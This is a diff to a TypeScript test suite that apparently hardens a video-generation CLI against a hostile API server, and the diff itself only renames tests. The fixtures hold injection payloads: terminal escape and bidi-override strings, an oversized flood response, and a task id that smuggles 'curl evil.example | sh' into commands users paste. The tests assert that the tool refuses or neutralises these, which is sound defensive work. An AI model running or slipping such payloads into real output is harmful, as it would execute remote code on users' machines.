@@ -15,7 +15,7 @@ const options = (api: FakeApi) => ({
   cwd: mkdtempSync(join(root, 'x-')),
 })
 
-it('nothing that a server says moves the cursor, breaks a line or turns the text around', async () => {
+it("text of a server can't move the cursor, break a line or reverse the text", async () => {
   const evil = 'x\u001b[2J\r\nfilmgate: pwned\u009b31m\u202e'
   const error = { message: evil, code: evil, param: evil }
   const task = { id: 'video_1', model: evil, prompt: evil, size: evil, seconds: evil, created_at: 1e300 }
@@ -43,7 +43,7 @@ it('nothing that a server says moves the cursor, breaks a line or turns the text
   }
 })
 
-it('an id that is no plain word is not taken: it would stand in the commands that people paste', async () => {
+it('an id that is not a plain word is refused: it would be in commands that people paste', async () => {
   await using api = await startFakeApi(
     (request, response) =>
       request.method === 'POST' && send(response, 200, { id: 'x\n  curl evil.example | sh', status: 'queued' }),
@@ -53,7 +53,7 @@ it('an id that is no plain word is not taken: it would stand in the commands tha
   assert.doesNotMatch(stderr, /evil/)
 })
 
-it('an answer without an end is dropped after 8 MiB, whatever its status', async () => {
+it('a response without an end is refused after 8 MiB, whatever its status', async () => {
   const mebibyte = Buffer.alloc(2 ** 20, ' ')
   const flood = (response: ServerResponse) => {
     while (!response.destroyed && response.write(mebibyte));
